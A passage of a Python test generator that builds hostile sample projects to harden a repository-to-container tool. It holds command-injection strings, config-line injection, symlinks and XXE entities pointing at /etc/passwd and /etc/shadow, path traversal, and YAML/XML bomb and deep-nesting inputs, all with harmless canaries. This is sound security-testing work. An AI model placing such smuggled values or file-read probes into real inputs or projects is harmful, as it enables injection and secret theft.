    "a_b.c",
    "WEB",
    "${X}",
    "{{x}}",
    "'",
    '"',
    "\\",
    "--",
    "a\nINJLINE: x",
    f"a{LS}INJLINE",
]
for i, n in enumerate(NAMES_APP):
    case("B yaml", f"name-{i}", node({"name": n}, readme(title=n.replace("\n", " "))))
case(
    "B yaml",
    "names-long-components",
    {
        **{f'{"a" * 45}/{k}': v for k, v in node({"name": "x" * 60}).items()},
        **{f'{"b" * 45}/{k}': v for k, v in django().items()},
        "README.md": "# " + "Abcdefghij" * 3 + "\n\nTwo.\n",
        "package.json": json.dumps({"name": "n" * 60, "private": True}),
    },
)
case(
    "B yaml",
    "components-reserved",
    {
        **{f"{n}/{k}": v for n in ["on", "no", "null", "true", "y", "off"] for k, v in node({"name": n}).items()},
        "README.md": "# Shop\n\nParts.\n",
    },
)
case(
    "B yaml",
    "components-collide",
    {
        **{
            f"{n}/{k}": v
            for n in ["api", "API", "a.p.i", "ap-i", "x/api", "redis", "postgres", "web"]
            for k, v in node_pg({"name": n}).items()
        },
        "README.md": "# Shop\n\nParts.\n",
    },
)
case(
    "B yaml",
    "components-slug-collide",
    {
        **{f"{n}/{k}": v for n in ["a b", "a-b", "a_b", "A B", "é", "ê"] for k, v in node({"name": n}).items()},
        "README.md": "# Shop\n\nParts.\n",
    },
)
case(
    "B yaml",
    "volumes-names",
    node(
        readme_text=readme(
            install="npm install\nmkdir -p 'данные'\nmkdir -p 'файлы'\nmkdir -p "
            + "v" * 200
            + "\nmkdir -p 'a b' 'a-b' 'a_b'\nmkdir -p 'up$HOME' 'c:ro' 'c:/etc' 'd,uid=0' '{x}' 'q\"q' 'a\\b'\nmkdir -p UPPER 'ünï'"
        )
    ),
    volcheck=True,
)
case(
    "B yaml",
    "volumes-sqlite",
    django(
        **{
            "site1/settings.py": 'import os\nSECRET_KEY="x"\nDATABASES={"default":{"ENGINE":"django.db.backends.sqlite3","NAME": os.path.join("d", "db$(touch INJCMD);.sqlite3")}}\nlogging="x"\n',
            "app.ini": "db = /var/lib/a$HOME:ro/x.db\ndb2=/srv/data/a\u2028INJLINE/y.db\n",
            "config.yml": "x: sqlite:////var/lib/shop\u2028INJLINE: a/z.sqlite\n",
            ".env.example": "DATABASE_URL=sqlite:///x;touch INJCMD;.db\nDB2=./a$(touch INJCMD).sqlite3\n",
            "x;touch INJCMD;.db": "",
            "a$(touch INJCMD).sqlite3": "",
        }
    ),
)
case(
    "B yaml",
    "host-fixed-newline",
    {
        **node(
            {"dependencies": {"express": "4", "pg": "8"}},
            js='const {Pool}=require("pg"); new Pool({host: "db\\nINJLINE: x", user: "u\\nINJLINE: y", password: "SECRETCANARYHF", database: "d;touch INJCMD"});\n',
        )
    },
)
case(
    "B yaml",
    "host-fixed-weird",
    {
        **node(
            {"dependencies": {"express": "4", "pg": "8", "mysql2": "3", "redis": "4"}},
            js=f'const {{Pool}}=require("pg"); new Pool({{host: "db{LS}INJLINE", user: "u{LS}INJLINE", password: "p", database: "d{LS}INJLINE"}}); require("mysql2").createConnection({{host:"my_sql.UPPER", user:"root", password:"", database:"$(touch INJCMD)"}}); require("redis").createClient({{url:"redis://cache$x:6379"}})\n',
        )
    },
)
case(
    "B yaml",
    "cron",
    django(
        readme_text='# Shop\n\n```sh\npip install -r requirements.txt\npython manage.py migrate\ngunicorn site1.wsgi -b 0.0.0.0:8000\n```\n\nCrontab:\n\n```\n0 2 * * * cd /srv && python manage.py a%RUN INJLINE%b "x\\" y" $(touch INJCMD)\n@reboot python manage.py b\n@every 5m python manage.py c\n*/5 0-99 * * MON-FRI python manage.py d: e # f\n0 2 * * * python manage.py \'g\nINJLINE: h\'\n* * * * * python manage.py {{ 7*7 }} ${VAR} $(VAR)\n61 25 32 13 8 python manage.py z\n```\n'
    ),
)
case(
    "B yaml",
    "systemd",
    django(
        readme_text="# Shop\n\n```sh\npip install -r requirements.txt\n```\n\n`/etc/systemd/system/shop.service`:\n\n```ini\n[Service]\nUser=root\\\nINJLINE=x\nEnvironment=\"A=b%n\" 'C=d\\\ne' NO=yes\nEnvironment=\"E=x\\nINJLINE: y\"\nEnvironmentFile=/etc/shadow\nExecStartPre=/bin/sh -c 'touch INJCMD'\nExecStart=/srv/venv/bin/gunicorn site1.wsgi -b 0.0.0.0:8000 %i %% \\\n  --x=$(touch INJCMD) ${Y}\nWorkingDirectory=/srv/../../etc\n[Timer]\nOnCalendar=*-*-* 02:00:00\nINJLINE\n```\n"
    ),
)
case(
    "B yaml",
    "supervisor",
    django(
        readme_text='# Shop\n\n```sh\npip install -r requirements.txt\npython manage.py migrate\n```\n\n`/etc/supervisor/conf.d/shop.conf`:\n\n```ini\n[program:web\nINJLINE]\ncommand=gunicorn site1.wsgi -b 0.0.0.0:8000 ; touch INJCMD\nenvironment=A="b%%c",B="$(touch INJCMD)",NO="yes"\n[program:$(touch INJCMD)]\ncommand=python manage.py worker %(ENV_X)s `touch INJCMD`\n[program:UPPER_case__]\ncommand=python manage.py worker2\n[program:'
        + "w" * 90
        + "]\ncommand=python manage.py worker3\n```\n"
    ),
)
DUMPS = [
    "schema;touch INJCMD;.sql",
    "a b.sql",
    "a'b.sql",
    "a:ro.sql",
    "-x.sql",
    "$(touch INJCMD).sql",
    "a\nINJLINE: x.sql",
    f"a{LS}INJLINE: x.sql",
    "`touch INJCMD`.sql",
    "$HOME.sql",
    "ünï.sql",
    "{{x}}.sql",
    "#x.sql",
    "A" * 200 + ".sql",
    "a\\.sql",
    '"q.sql',
]
for i, d in enumerate(DUMPS):
    case(
        "S shell",
        f"sql-dump-{i}",
        {
            **node_pg(readme_text=readme(install=f"npm install\npsql -d shop -f {sh(d)}\nmysql shop < {sh(d)}")),
            d: "CREATE TABLE a (id int);\n",
        },
    )
case(
    "B yaml",
    "ingress-host",
    node(
        **{
            "deploy/nginx.conf": 'server {\n listen 80;\n server_name "shop.evil.org\\nINJLINE" $(touch.INJCMD.org);\n root /var/www;\n client_max_body_size 5M;INJCONF;\n location / { proxy_pass http://127.0.0.1:3000; }\n}\n'
        }
    ),
)
case(
    "B yaml",
    "ingress-host-2",
    node(
        **{
            "deploy/nginx.conf": f"server {{\n listen 80;\n server_name shop.evil{LS}INJLINE.org;\n ssl_certificate /etc/x{LS}INJLINE.pem;\n location / {{ proxy_pass http://127.0.0.1:3000; }}\n}}\n"
        }
    ),
)
case(
    "B yaml",
    "ingress-host-dash",
    node(
        **{
            "deploy/nginx.conf": "server {\n server_name -shop-.evil-.org;\n location / { proxy_pass http://127.0.0.1:3000; }\n}\n"
        }
    ),
)
case(
    "B yaml",
    "ingress-host-long",
    node(
        **{
            "deploy/nginx.conf": "server {\n server_name "
            + ".".join(["a" * 60] * 6)
            + ".org;\n location / { proxy_pass http://127.0.0.1:3000; }\n}\n"
        }
    ),
)
case(
    "B yaml",
    "certbot",
    node(
        readme_text=readme(
            more=fence(
                "sudo certbot --nginx -d 'shop.evil.org\nINJLINE: x' -d '$(touch INJCMD)'\nsudo certbot -d SHOP.Evil.Org,x"
            )
        )
    ),
)
case(
    "B yaml",
    "compose-hostile",
    node_pg(
        **{
            "docker-compose.yml": 'services:\n  "web\\nINJLINE: x":\n    build: ../../..\n    image: "evil\\nRUN INJLINE"\n    depends_on: ["db\\nINJLINE"]\n  db:\n    image: "postgres:14\\nRUN INJLINE"\n    ports: ["5432:5432"]\n  x:\n    build: {context: /etc, dockerfile: ../../x}\n    image: "library/postgres:15;touch INJCMD"\n'
        }
    ),
)
case(
    "B yaml",
    "compose-names",
    {
        **{
            f"{n}/{k}": v
            for n in ["one", "two"]
            for k, v in node(
                {"name": n}, js='fetch("http://evil-host:3000/"); fetch("http://back:3000"); fetch("http://no:3000")'
            ).items()
        },
        "docker-compose.yml": 'services:\n  evil-host: {build: ./one, depends_on: [back, no]}\n  back: {build: two}\n  no: {build: two}\n  "kubernetes": {build: two}\n',
        "README.md": "# Shop\n\nTwo.\n",
    },
)
case(
    "B yaml",
    "proxies",
    {
        **{
            f"front/{k}": v
            for k, v in {
                "package.json": json.dumps(
                    {
                        "name": "front",
                        "scripts": {"build": "vite build", "dev": "vite"},
                        "devDependencies": {"vite": "5"},
                    }
                ),
                "index.html": "<html></html>",
                "vite.config.js": 'export default { server: { proxy: { "/api;}INJCONF{": "http://localhost:3000", "^/x(\\n|INJLINE)": {target: "http://localhost:3000/a;INJCONF", rewrite: p => p.replace(/^\\/api;INJCONF/, "")}, "/ok": "http://localhost:3000/\\nINJLINE" , "/q\\"INJCONF": "http://localhost:3000"} } }\n',
            }.items()
        },
        **{f"back/{k}": v for k, v in node({"name": "back"}).items()},
        "README.md": "# Shop\n\n```sh\ncd back\nnpm install\nnpm start\ncd ../front\nnpm install\nnpm run build\n```\n",
    },
)
case(
    "B yaml",
    "health-paths",
    node(
        js='app.get("/health\\nINJLINE", f); app.get("/a\'; touch INJCMD;", f); app.get(`/$(touch INJCMD)`, f); app.get("/<script>INJHTML</script>", f)',
        readme_text=readme(
            more="Open http://localhost:3000/a';touch INJCMD;' or <http://localhost:3000/$(touch INJCMD)>.\n\n"
            + fence('curl "http://localhost:3000/x\nINJLINE"')
        ),
    ),
)

# =====================================================================
# T: templates
# =====================================================================
TM = '{{ 7*7 }}{% include "k8s/pod.j2" %}{# x #}{%- raw -%}{{ header }}'
case(
    "T template",
    "everywhere",
    node(
        {"name": TM, "scripts": {"start": f"node a.js '{TM}'", "build": f"node b.js '{TM}'", "migrate": "node m.js"}},
        readme(
            title=TM,
            install=f"npm install '{TM}'\nnpm run build '{TM}'\nnpm run migrate '{TM}'\nmkdir -p '{TM}'",
            start=f"npm start -- '{TM}'",
            extra=TM,
        ),
        js=f"process.env.TM1 || '{TM}'; process.env.TM2",
        **{".env.example": f"TM2={TM}\n# {TM}\nTM3=x\n"},
    ),
    tmpl=True,
    envcheck=True,
)
VARS = "{port} {env} {handed_on} {otherwise} {url} {name} {host} {user} {database} {file} {folder} {docroot} {runtime} {version} {suite} {entry} {program}"
case(
    "T template",
    "recipe-vars",
    node_pg(
        {
            "scripts": {
                "start": f"node a.js '{VARS}'",
                "build": f"node b.js '{VARS}'",
                "migrate": f"node m.js '{VARS}'",
            },
            "main": "{port}.js",
        },
        readme(
            title=VARS[:25],
            install=f"npm install '{VARS}'\nnpm run build '{VARS}'\nnpm run migrate",
            start=f"npm start -- '{VARS}'",
        ),
        **{".env.example": f"V1={VARS}\nDATABASE_URL=postgres://{{user}}:{{password}}@localhost/{{database}}\n"},
        js="process.env.V1",
    ),
    envcheck=True,
)
case(
    "T template",
    "php-vars",
    {
        "index.php": '<?php echo getenv("{env}"); echo getenv("{port}");',
        "{env}/index.php": "<?php",
        "{port}.php": "<?php",
        "site.conf": "server {\n root /var/www/{env};\n client_max_body_size {port};\n try_files $uri /{env}.php;\n location ~ {port}{env} { deny all; }\n fastcgi_pass x;\n}\n",
        "README.md": "# Shop\n\nPHP 8.1\n",
    },
)

# =====================================================================
# C: nginx and apache
# =====================================================================
PHP = {"index.php": "<?php echo 1;", "README.md": "# Shop\n\nPHP 8.1 and Apache.\n"}
case(
    "C conf",
    "php-denied",
    {
        **PHP,
        "site.conf": 'server {\n listen 80;\n root /var/www/x;\n location ~ \'a">INJCONF"\' { deny all; }\n location ~ "b\\">\'\nINJCONF" { deny all; }\n location /c">INJCONF { deny all; }\n location ~ \'(x\' { deny all; }\n fastcgi_pass unix:/x;\n}\n',
    },
)
case(
    "C conf",
    "php-upload",
    {
        **PHP,
        "site.conf": "server {\n root /var/www/x;\n client_max_body_size \"5M\tauto_prepend_file=INJCONF\";\n}\nserver {\n client_max_body_size '5M auto_prepend_file=INJCONF';\n}\n",
    },
)
case(
    "C conf",
    "php-fallback",
    {**PHP, "site.conf": 'server {\n root /var/www/x;\n try_files $uri "/index.php INJCONF";\n}\n'},
)
case(
    "C conf",
    "php-fallback-sep",
    {**PHP, "site.conf": f'server {{\n root /var/www/x;\n try_files $uri "/index.php\rInclude INJCONF";\n}}\n'},
)
case("C conf", "php-page-nl", {"a\nInclude INJCONF.php": "<?php echo 1;", "README.md": "# Shop\n\nPHP 8.1\n"})
case("C conf", "php-page-space", {"a INJCONF b.php": "<?php echo 1;", "README.md": "# Shop\n\nPHP 8.1\n"})
case(
    "C conf",
    "php-folder-nl",
    {
        "a\nInclude INJCONF/index.php": "<?php echo 1;",
        "README.md": "# Shop\n\n```sh\ncd a*\nphp -S localhost:8000\n```\n",
    },
)
case(
    "C conf",
    "php-docroot",
    {**PHP, 'pub lic"INJCONF/index.php': "<?php", "site.conf": "server {\n root '/var/www/pub lic\"INJCONF';\n}\n"},
)
case(
    "C conf",
    "php-docroot-nl",
    {
        **PHP,
        "pub\nInclude INJCONF/index.php": "<?php",
        "site.conf": 'server {\n root "/var/www/pub\nInclude INJCONF";\n}\n',
    },
)
case(
    "C conf",
    "php-params",
    {
        **PHP,
        "site.conf": f'server {{\n root /var/www/x;\n fastcgi_pass x;\n fastcgi_param MODE1 "a\\nINJLINE: x";\n fastcgi_param NO yes;\n fastcgi_param "B A D" x;\n fastcgi_param LSV "a{LS}INJLINE: x";\n}}\n',
    },
    envcheck=True,
)
case(
    "C conf",
    "cgi-scripts",
    {
        "x\nLoadFile INJCONF/cgi-bin/a.cgi": "#!/usr/bin/perl\nprint 1;\n",
        "README.md": "# Shop\n\nApache and Perl CGI.\n",
    },
)
case(
    "C conf",
    "cgi-alias",
    {
        "cgi-bin/a.cgi": "#!/usr/bin/perl\nprint $ENV{A};\n",
        "apache.conf": '<VirtualHost *:80>\nScriptAlias "/cgi-bin/ INJCONF" "/srv/x/cgi-bin"\nDocumentRoot "/srv/htdocs INJCONF"\nSetEnv A "b INJCONF"\n</VirtualHost>\n',
        "htdocs INJCONF/index.html": "<html>",
        "README.md": "# Shop\n\nApache and Perl CGI.\n",
    },
)
case(
    "C conf",
    "cgi-python-two",
    {
        "cgi-bin/a.py": '#!/opt/x;touch${IFS}INJCMD/python\nprint "a"\n',
        "cgi-bin/b.cgi": '#!/opt/y/python\nprint "a"\n',
        "README.md": "# Shop\n\nApache and CGI.\n",
    },
)
case("C conf", "static-names", {"index.html": "<html>", "a\nb.html": "<html>", "README.md": "# Page\n"})


# =====================================================================
# L: links; P: paths; F: special files
# =====================================================================
def L(target):
    return ("link", target)


OUTSIDE = "@ROOT@/outside"
case("L links", "readme-passwd", {**node(), "README.md": L("/etc/passwd")}, strace=True)
case("L links", "readme-outside", {**node(), "README.md": L(OUTSIDE + "/README.md")}, strace=True)
case("L links", "folder", {**node(), "sub": L(OUTSIDE), "docs": L("/etc")}, strace=True)
case(
    "L links",
    "loop",
    {**node(), "loop": L("."), "a/loop2": L(".."), "x": L("x"), "y": L("z"), "z": L("y")},
    strace=True,
)
case(
    "L links",
    "manifest-links",
    {
        **{k: v for k, v in node().items() if k != "package.json"},
        "package.json": L(OUTSIDE + "/package.json"),
        ".env.example": L(OUTSIDE + "/env"),
        ".gitignore": L(OUTSIDE + "/gitignore"),
        "docker-compose.yml": L(OUTSIDE + "/compose.yml"),
        "Makefile": L("/etc/passwd"),
    },
    strace=True,
)
case("L links", "gitignore-outside", {**node(), ".gitignore": L(OUTSIDE + "/gitignore")}, strace=True)
for f in [
    "Dockerfile",
    ".dockerignore",
    "compose.yaml",
    "CONTAINER.md",
    "env/development.env",
    "k8s/base/deployment.yaml",
    "k8s",
    "env",
    "k8s/base",
    "k8s/overlays",
    "k8s/overlays/test",
]:
    target = OUTSIDE + "/w-" + f.replace("/", "_").replace(".", "_")
    case(
        "L links",
        "out-" + f.replace("/", "-"),
        {**node(js="process.env.FOO", **{".env.example": "FOO=1\n"}), f: L(target)},
        in_place=True,
        outside_target=target,
        dir_target=f in ("k8s", "env", "k8s/base", "k8s/overlays", "k8s/overlays/test"),
    )
case(
    "L links",
    "out-container",
    {
        **django(),
        "README.md": node()["README.md"],
        **{k: v for k, v in node(js='const c=require("./config/default.json");').items() if k != "README.md"},
        "container": L(OUTSIDE + "/w-container"),
    },
    in_place=True,
    outside_target=OUTSIDE + "/w-container",
    dir_target=True,
)
case(
    "L links",
    "out-container-php",
    {**PHP, "container": L(OUTSIDE + "/w-container2")},
    in_place=True,
    outside_target=OUTSIDE + "/w-container2",
    dir_target=True,
)
case("L links", "state-link", {**node(), ".longshore.json": L(OUTSIDE + "/state.json")}, in_place=True, strace=True)
case("L links", "state-zero", {**node(), ".longshore.json": L("/dev/zero")}, in_place=True, heavy=True)
case("L links", "out-zero", {**node(), "Dockerfile": L("/dev/zero")}, in_place=True, heavy=True)
case("L links", "config-link", {**node(), "longshore.toml": L(OUTSIDE + "/longshore.toml")}, strace=True)
case(
    "L links",
    "root-link-secret",
    {**node(), "Dockerfile": L(OUTSIDE + "/secret.txt"), "compose.yaml": L("/etc/shadow")},
    in_place=True,
    outside_canary=True,
)
case(
    "L links",
    "dangling",
    {**node(), "Dockerfile": L(OUTSIDE + "/does/not/exist"), "env": L(OUTSIDE + "/nor/this")},
    in_place=True,
)
case(
    "L links",
    "old-dockerfile-link",
    {**node(), "Dockerfile": L(OUTSIDE + "/secret.txt"), "docker/Dockerfile": L("/etc/hostname")},
    strace=True,
)

case(
    "P paths",
    "readme-paths",
    {
        **node(),
        "README.md": readme(
            install="npm install\ncp ../../etc/passwd .\ncp /etc/passwd .\ncp ../../../../etc/passwd ../../x\ncat ../../etc/shadow > x\ncd ../../..\ncd ../outside\nnpm install ../../outside\nnpm install -r ../../x.txt\nsource ../../outside/x.sh\nbash ../outside/run.sh\nbash @ROOT@/outside/run.sh\nsh ../../hostile/outside/run.sh\nmake -C ../outside all\nmake -f ../outside/Makefile\nmkdir -p ../../evil\necho x > ../../evil2\ncat > ../../evil3 <<EOF\nx\nEOF\nln -s /etc x\npsql -f ../../outside/dump.sql\n. /etc/profile",
            more="See [install](../../..@ROOT@/outside/INSTALL.md), [setup](@ROOT@/outside/setup.md), [deploy](file://@ROOT@/outside/deploy.md).",
        ),
    },
    strace=True,
)
case(
    "P paths",
    "requirements-r",
    django(
        **{
            "requirements.txt": "Django\n-r ../../../etc/shadow\n-r @ROOT@/outside/req.txt\n-c ../outside/c.txt\n-e ../../outside\nfile:../../outside/x.whl\n"
        },
        readme_text="# Shop\n\n```sh\npip install -r requirements.txt\npip install -r ../../../etc/shadow\npip install -r @ROOT@/outside/req.txt\ngunicorn site1.wsgi -b 0.0.0.0:8000\n```\n",
    ),
    strace=True,
)
case(
    "P paths",
    "workspaces",
    node({"workspaces": ["../..", "../outside", "@ROOT@/outside", "../../**", "**/../../**"]}),
    strace=True,
)
case(
    "P paths",
    "pnpm",
    node(**{"pnpm-workspace.yaml": 'packages:\n  - "../../**"\n  - "/etc/**"\n  - "../outside"\n'}),
    strace=True,
)
case(
    "P paths",
    "compose-build",
    node(
        **{
            "docker-compose.yml": "services:\n  web:\n    build: ../..\n  x:\n    build: {context: ../outside, dockerfile: ../../etc/passwd}\n    env_file: [../../etc/shadow]\n"
        }
    ),
    strace=True,
)
case(
    "P paths",
    "makefile",
    node(
        **{
            "Makefile": "include ../../outside/evil.mk\n-include /etc/passwd\nX := $(shell touch INJCMD)\ninstall:\n\t$(shell touch INJCMD)\n\tnpm install $(X) \\\n\t  $$(touch INJCMD)\n\tcd ../.. && npm install\n\t@bash ../outside/run.sh\nA=$(A)$(B)\nB=$(A)$(A)\nrun: install\n\techo $(A)\n\tnpm start\n"
        },
        readme_text="# Shop\n\n```sh\nmake install\nmake run\n```\n",
    ),
    strace=True,
)
case(
    "P paths",
    "vagrant",
    node(
        **{
            "Vagrantfile": 'config.vm.provision "shell", path: "../../outside/run.sh"\nconfig.vm.provision "shell", inline: <<-SHELL\n  apt-get install -y redis\n  bash ../outside/run.sh\nSHELL\nload "../../outside/x.rb"\n`touch INJCMD`\n'
        },
        readme_text="# Shop\n\n```sh\nvagrant up\nnpm install\nnpm start\n```\n",
    ),
    strace=True,
)
case(
    "P paths",
    "scripts",
    node(
        **{
            "setup.sh": "#!/bin/sh\ntouch INJCMD\ncd ../../..\n. ../outside/run.sh\nsh setup.sh\nnpm install\n",
            "b.sh": "sh c.sh\n",
            "c.sh": "sh b.sh\n",
        },
        readme_text="# Shop\n\n```sh\n./setup.sh\nsh b.sh\nnpm start\n```\n",
    ),
    strace=True,
)
case(
    "P paths",
    "package-main",
    node(
        {
            "main": "../../../etc/passwd",
            "bin": "../../x",
            "files": ["../.."],
            "scripts": {"start": "node ../../outside/a.js"},
        }
    ),
    strace=True,
)
case(
    "P paths",
    "includes",
    {
        **django(),
        "setup.cfg": "[metadata]\nname = x\nlong_description = file: ../../../etc/passwd\n[options]\ninstall_requires = file: ../outside/req.txt\n",
        "pyproject.toml": '[project]\nname="x"\ndynamic=["dependencies"]\n[tool.setuptools.dynamic]\ndependencies={file="../../outside/req.txt"}\n[tool.poetry.dependencies]\nx={path="../../outside"}\n',
    },
    strace=True,
)
case(
    "P paths",
    "vite-outdir",
    {
        "package.json": json.dumps(
            {"name": "front", "scripts": {"build": "vite build"}, "devDependencies": {"vite": "5"}}
        ),
        "index.html": "<html></html>",
        "vite.config.js": 'export default { build: { outDir: "../../../../etc" }, root: "../../.." }\n',
        "README.md": readme(install="npm install\nnpm run build", start=""),
    },
    strace=True,
)
case(
    "P paths",
    "maven-parent",
    {
        "pom.xml": "<project><modelVersion>4.0.0</modelVersion><parent><relativePath>../../outside/pom.xml</relativePath></parent><artifactId>x</artifactId><modules><module>../../outside</module></modules></project>",
        "README.md": "# x\n\n```sh\nmvn package\n```\n",
    },
    strace=True,
)


def FIFO():
    return ("fifo",)


def SOCK():
    return ("sock",)


case(
    "F special",
    "fifo-many",
    {
        **node(),
        "README.rst": FIFO(),
        "requirements.txt": FIFO(),
        "Dockerfile.prod": FIFO(),
        "docs/INSTALL.md": FIFO(),
        ".gitignore": FIFO(),
        "longshore.toml": FIFO(),
        "x.sock": SOCK(),
        ".env.example": FIFO(),
        "docker-compose.yml": FIFO(),
        "Procfile": FIFO(),
        "pom.xml": SOCK(),
    },
)
case("F special", "fifo-readme", {**{k: v for k, v in node().items() if k != "README.md"}, "README.md": FIFO()})
case("F special", "fifo-state", {**node(), ".longshore.json": FIFO()}, in_place=True)
case("F special", "fifo-dockerfile", {**node(), "Dockerfile": FIFO()}, in_place=True)
case("F special", "fifo-k8s", {**node(), "k8s/base/deployment.yaml": FIFO()}, in_place=True)
case(
    "F special",
    "fifo-git",
    {**node(), ".git/HEAD": FIFO(), ".git/config": FIFO(), ".git/objects/x": b"", ".git/refs/heads/main": FIFO()},
)
case("F special", "fifo-recipes", {**node(), "longshore.toml": 'recipes = ["r"]\n', "r/stacks/x.toml": FIFO()})
case("F special", "fifo-ca", {**node(), "longshore.toml": '[build]\nca-certificate = "ca.pem"\n', "ca.pem": FIFO()})
case(
    "F special",
    "devices",
    {**node(), "README.txt": ("dev", 1, 5), "zero.js": ("dev", 1, 5), "tty.py": ("dev", 5, 0), ".env": ("dev", 1, 5)},
)
case("F special", "device-state", {**node(), ".longshore.json": ("dev", 1, 5)}, in_place=True, heavy=True)
case("F special", "unreadable", {**node(), "secret.js": ("mode", 0, "x"), "dir/x.js": "x", "dir": ("dirmode", 0)})
case("F special", "hardlink", {**node(), "x.js": ("hard", OUTSIDE + "/secret.txt")})
case(
    "F special",
    "folder-as-file",
    {
        **{k: v for k, v in node().items() if k not in ("README.md",)},
        "README.md/x": "y",
        ".env.example/x": "y",
        "longshore.toml/x": "",
        ".longshore.json/x": "",
        "Dockerfile/x": "",
        ".gitignore/x": "",
    },
    in_place=True,
)
case("F special", "file-as-folder", {**node(), "k8s": "x", "env": "y", "container": "z"}, in_place=True)
case(
    "F special",
    "bad-names",
    {**node(), b"\xff\xfe.js": "x", b"a\xffb/README.md": "x", b"\xf0\x28.py": "y", "x" * 255: "z"},
)
case(
    "F special",
    "sparse-1g",
    {
        **node(),
        "big.js": ("sparse", 1 << 30),
        "README.txt": ("sparse", 1 << 30),
        "dump.sql": ("sparse", 1 << 30),
        ".env": ("sparse", 1 << 30),
    },
    heavy=True,
)
case("F special", "sparse-gitignore", {**node(), ".gitignore": ("sparse", 1 << 30)}, heavy=True)
case("F special", "sparse-state", {**node(), ".longshore.json": ("sparse", 1 << 30)}, in_place=True, heavy=True)
case("F special", "sparse-dockerfile", {**node(), "Dockerfile": ("sparse", 1 << 30)}, in_place=True, heavy=True)
case("F special", "deep-2000", {**node(), "DEEP": ("deep", 2000)})
case("F special", "files-100k", {**node(), "MANY": ("many", 100000)}, heavy=True, once=True)

# =====================================================================
# D: sizes and bombs; N: nesting
# =====================================================================
lol = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + "".join(
    f'{chr(98+i)}: &{chr(98+i)} [{",".join(["*" + chr(97+i)] * 9)}]\n' for i in range(9)
)
lolm = "x-a: &a {k1: v, k2: v}\n" + "".join(
    f'x-{chr(98+i)}: &{chr(98+i)} {{{",".join(f"k{j}: *{chr(97+i)}" for j in range(9))}}}\n' for i in range(9)
)
for fn in ["docker-compose.yml", "pnpm-workspace.yaml", "environment.yml", "mkdocs.yml", "config.yml"]:
    case(
        "D bombs",
        "laughs-" + fn.split(".")[0],
        node(
            **{
                fn: lol
                + ("services: *j\n" if "compose" in fn else "")
                + ("packages: *j\n" if "pnpm" in fn else "")
                + ("dependencies: *j\n" if "env" in fn else "")
            }
        ),
    )
case(
    "D bombs",
    "laughs-compose-map",
    node(**{"compose.yaml": lolm + "services:\n  web: *j\n  <<: *j\n", "docker-compose.yml": lolm + "services: *j\n"}),
)
case(
    "D bombs",
    "yaml-merge",
    node(
        **{
            "docker-compose.yml": "x: &x {image: postgres}\nservices:\n"
            + "".join(f'  s{i}: {{<<: [{",".join(["*x"] * 500)}]}}\n' for i in range(200))
        }
    ),
)
case(
    "D bombs",
    "xxe",
    {
        "pom.xml": '<?xml version="1.0"?>\n<!DOCTYPE p [<!ENTITY x SYSTEM "file://@ROOT@/outside/secret.txt"><!ENTITY % y SYSTEM "file:///etc/passwd">]>\n<project><modelVersion>4.0.0</modelVersion><artifactId>&x;</artifactId></project>',
        "README.md": "# x\n\n```sh\nmvn package\n```\n",
    },
    strace=True,
)
ent = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i+1} "{f"&l{i};" * 10}">' for i in range(10))
case(
    "D bombs",
    "xml-laughs",
    {
        "pom.xml": f'<?xml version="1.0"?>\n<!DOCTYPE p [{ent}]>\n<project><modelVersion>4.0.0</modelVersion><artifactId>&l10;</artifactId></project>',
        "README.md": "# x\n\n```sh\nmvn package\n```\n",
    },
)
case(
    "D bombs",
    "xml-quadratic",
    {
        "pom.xml": f'<?xml version="1.0"?>\n<!DOCTYPE p [<!ENTITY a "{"x" * 60000}">]>\n<project><artifactId>{"&a;" * 20000}</artifactId></project>',
        "README.md": "# x\n\n```sh\nmvn package\n```\n",
    },
)
DEEP = 10000
case(
    "N nesting",
    "json",
    node(
        **{
            "package.json": '{"name":"x","a":' + "[" * DEEP + "]" * DEEP + "}",
            "composer.json": '{"a":' * DEEP + "1" + "}" * DEEP,
            "appsettings.json": "[" * 100000,
            "tsconfig.json": '{"a":' * 50000,
        }
    ),
)
case(
    "N nesting",
    "json-state",
    node(**{".longshore.json": '{"files":' + '{"a":' * DEEP + "1" + "}" * DEEP + "}"}),
    in_place=True,
)
case("N nesting", "json-100k", node(**{"package.json": "[" * 400000}))
case("N nesting", "jsonc-comments", node(**{"package.json": "/*" * 300000 + "{}"}))
case(
    "N nesting",
    "toml",
    django(
        **{
            "pyproject.toml": "a = " + "[" * DEEP + "]" * DEEP + "\n",
            "Pipfile": "a = " + "{a=" * DEEP + "1" + "}" * DEEP + "\n",
            "Cargo.toml": "[" + "a." * 50000 + "a]\n",
        }
    ),
)
case("N nesting", "toml-config", node(**{"longshore.toml": "recipes = " + "[" * DEEP + "]" * DEEP + "\n"}))
case("N nesting", "toml-config-dotted", node(**{"longshore.toml": "a." * 50000 + "a = 1\n"}))
case(
    "N nesting",
    "toml-recipes",
    node(
        **{
            "longshore.toml": 'recipes = ["r"]\n',
            "r/stacks/x.toml": "a = " + "[" * 100000 + "\n",
            "r/words/y.toml": "a." * 100000 + "b = 1\n",
        }
    ),
)
case(
    "N nesting",
    "yaml",
    node(
        **{
            "docker-compose.yml": "[" * DEEP + "]" * DEEP,
            "compose.yaml": "a: " + "{a: " * DEEP + "1" + "}" * DEEP,
            "pnpm-workspace.yaml": "- " * DEEP + "x\n",
            "environment.yml": "".join(" " * i + "a:\n" for i in range(1200)),
        }
    ),
)
case(
    "N nesting",
    "xml",
    {
        "pom.xml": "<project>" + "<a>" * 200000 + "</a>" * 200000 + "</project>",
        "README.md": "# x\n\n```sh\nmvn package\n```\n",
    },
)
case(
    "N nesting",
    "xml-10k",
    {
        "pom.xml": "<project>" + "<dependency>" * DEEP + "</dependency>" * DEEP + "</project>",
        "README.md": "# x\n\n```sh\nmvn package\n```\n",
    },
)
case(
    "N nesting",
    "shell-parens",
    node(
        readme_text=readme(
            install="npm install\n"
            + "(" * 3000
            + "npm run build"
            + ")" * 3000
            + "\n"
            + "$(" * 2000
            + "x"
            + ")" * 2000
            + "\n"
            + "{ " * 1500
            + "x; "
            + "} " * 1500
            + "\n"
            + "`" * 3000
            + "\n"
            + '"$(' * 1200
            + "\n"
            + "${a:-" * 800
            + "\n"
            + "if true; then " * 250
            + "\n"
            + "$((" * 1200
            + "\n"
            + "case x in " * 300
            + "\n"
            + "f() { " * 600
            + "\n"
            + "[[ " * 900
            + "\n"
            + "<(" * 1400
            + "\n"
            + "a <<A " * 500
        )
    ),
)
case(
    "N nesting",
    "shell-script",
    node(
        **{
            "setup.sh": "#!/bin/sh\n"
            + ("(" * 4000 + "\n") * 100
            + ("if true\nthen\n" * 2000)
